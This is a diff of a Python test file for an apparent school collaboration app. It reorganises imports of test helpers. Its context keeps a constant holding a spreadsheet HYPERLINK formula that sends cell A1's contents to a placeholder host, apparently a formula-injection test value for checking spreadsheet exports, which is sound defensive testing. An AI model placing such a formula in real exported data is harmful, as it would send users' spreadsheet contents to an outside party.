@@ -14,9 +14,8 @@ from collab.accounts.administration import parse_class_list
 from collab.errors import InvalidInput
 from collab.followup.exports import spreadsheet_cell
 from collab.settings import Settings
-from tests.accounts.test_admin import school_id
-from tests.conftest import AsWho
-from tests.support.web import DemoSchool, csrf_from
+from tests.support.data import school_id
+from tests.support.web import AsWho, DemoSchool, csrf_from
 
 FORMULA = '=HYPERLINK("http://example.org/vol?d="&A1;"Clique")'
 
